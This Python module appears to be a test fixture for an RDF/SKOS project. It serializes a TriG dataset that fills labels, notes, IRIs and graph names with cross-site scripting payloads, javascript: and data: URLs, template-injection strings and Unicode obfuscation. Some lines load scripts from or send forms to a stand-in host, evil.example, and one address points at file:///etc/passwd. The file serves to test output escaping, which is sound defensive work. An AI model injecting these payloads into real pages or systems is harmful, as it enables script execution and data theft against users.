"""Data in which every place that takes a stranger's text has some that a careless page would run."""

from __future__ import annotations

from pyoxigraph import Literal, NamedNode, Quad, serialize
from pyoxigraph import RdfFormat as Format

from tercoop.rdf.namespaces import BASE, RDF, SKOS, TC

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "x onload=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "</bdi><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=q></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "\u202e<script>\u202dalert(1)\u2066</script>",
    "\ufeff<script\u00a0>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>\x1b[31m\x08",
    "＜script＞alert(1)＜/script＞",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:http://example.org/1",
    "view-source:javascript:alert(1)",
    "urn:x:<y>".replace("<", "%3C").replace(">", "%3E"),
    "about:blank",
    "http:javascript:alert(1)",
    "https:/one.example",
    "http://example.org/'onmouseover='alert(1)",
    "http://example.org/&quot;onmouseover=&quot;alert(1)",
    "http://example.org/;x=&lt;script&gt;",
    f"{BASE}/evil.example/x",
    f"{BASE}id/x/'onmouseover='alert(1)",
    f"{BASE}id/x/javascript:alert(1)",
    f"{BASE}ontology#'onmouseover='alert(1)",
    f"{BASE}id/x/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
)
THING = NamedNode(f"{BASE}id/project/attacked")
FRIEND = NamedNode(f"{BASE}id/project/friend")


def attack() -> str:
    """Return the data as TriG."""
    graph = NamedNode(f"{BASE}graph/'onmouseover='alert(1)")
    quads = [Quad(THING, RDF.type, TC.Project, graph), Quad(FRIEND, RDF.type, TC.Project, graph)]
    for number, payload in enumerate(PAYLOADS):
        other = NamedNode(f"{BASE}id/project/other-{number}")
        quads += [
            Quad(THING, SKOS.note, Literal(payload), graph),
            Quad(THING, SKOS.altLabel, Literal(payload, language="en"), graph),
            Quad(THING, SKOS.example, Literal(payload, datatype=NamedNode("javascript:alert(1)")), graph),
            Quad(other, RDF.type, TC.Project, graph),
            Quad(other, SKOS.prefLabel, Literal(payload), graph),
            Quad(other, SKOS.related, THING, graph),
            Quad(THING, SKOS.related, other, graph),
        ]
    for number, address in enumerate(ADDRESSES):
        node = NamedNode(address)
        own = NamedNode(f"{BASE}graph/own-{number}")
        quads += [
            Quad(THING, SKOS.broader, node, own),
            Quad(THING, node, Literal(address), own),
            Quad(node, SKOS.narrower, THING, own),
            Quad(node, RDF.type, TC.Project, node),
            Quad(node, SKOS.prefLabel, Literal(PAYLOADS[number]), node),
            Quad(THING, TC.website, Literal(address), own),
        ]
    text = serialize(quads, format=Format.TRIG)
    assert text is not None
    return text.decode()
